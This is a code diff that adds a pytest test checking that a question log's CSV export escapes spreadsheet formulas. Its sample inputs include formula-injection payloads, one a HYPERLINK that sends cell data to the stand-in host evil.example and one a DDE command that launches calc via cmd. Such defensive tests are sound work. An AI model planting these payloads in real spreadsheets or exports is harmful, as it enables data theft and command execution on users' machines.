@@ -224,3 +224,23 @@ def test_csv_export_has_a_bom_and_reads_back_vietnamese(
     assert rows[0]["review_state"] == "unanswered"
     assert rows[1]["answer"] == "Từ 7h30 đến 17h."
     assert "user_key" not in rows[0] and "chat_id" not in rows[0]
+
+
+def test_a_formula_typed_as_a_question_is_exported_as_text_not_run_by_a_spreadsheet(
+        log: QuestionLog, curated: CuratedAnswers, tmp_path: Path) -> None:
+    attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+    for text in attacks:
+        ask(log, text)
+    curated.add("=1+1", "@cmd")
+    path = tmp_path / "export.csv"
+    export_csv(log, path)
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    questions = [r["question"] for r in rows if r["kind"] == "question"]
+    stored = [q.question for q in log.questions()]
+    assert len(questions) == len(attacks) and all(q.startswith("'") for q in questions)
+    assert sorted(q[1:] for q in questions) == sorted(stored)  # nothing else changed
+    faq = next(r for r in rows if r["kind"] == "faq")
+    assert (faq["question"], faq["answer"]) == ("'=1+1", "'@cmd")
+    assert all(not r["feedback"].startswith("'") for r in rows)  # numbers stay numbers
